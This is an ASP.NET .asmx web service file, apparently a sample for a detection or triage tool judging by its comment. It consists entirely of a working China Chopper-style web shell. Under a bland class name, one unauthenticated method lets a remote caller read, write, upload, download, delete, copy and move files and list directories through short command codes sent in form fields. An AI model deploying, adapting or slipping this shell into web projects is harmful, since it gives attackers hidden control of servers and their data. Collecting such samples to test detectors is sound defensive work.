<%@ WebService Language="C#" Class="Svc" %>
// triage-expect: triage_chopper_server_protocol
using System; using System.IO; using System.Web; using System.Web.Services;
public class Svc : WebService {
    [WebMethod]
    public string Handle() {
        HttpRequest q = HttpContext.Current.Request;
        string Z = q.Form["z"], Z1 = q.Form["z1"], Z2 = q.Form["z2"], R = "";
        switch (Z) {
            case "A": R = HttpContext.Current.Server.MapPath("/"); break;
            case "B": R = string.Join("\t", Directory.GetDirectories(Z1)); break;
            case "C": R = File.ReadAllText(Z1); break;
            case "D": File.WriteAllText(Z1, Z2); R = "1"; break;
            case "E": File.Delete(Z1); R = "1"; break;
            case "F": R = Convert.ToBase64String(File.ReadAllBytes(Z1)); break;
            case "G": File.WriteAllBytes(Z1, Convert.FromBase64String(Z2)); R = "1"; break;
            case "H": File.Copy(Z1, Z2); R = "1"; break;
            case "I": File.Move(Z1, Z2); R = "1"; break;
            case "J": Directory.CreateDirectory(Z1); R = "1"; break;
        }
        return R;
    }
}
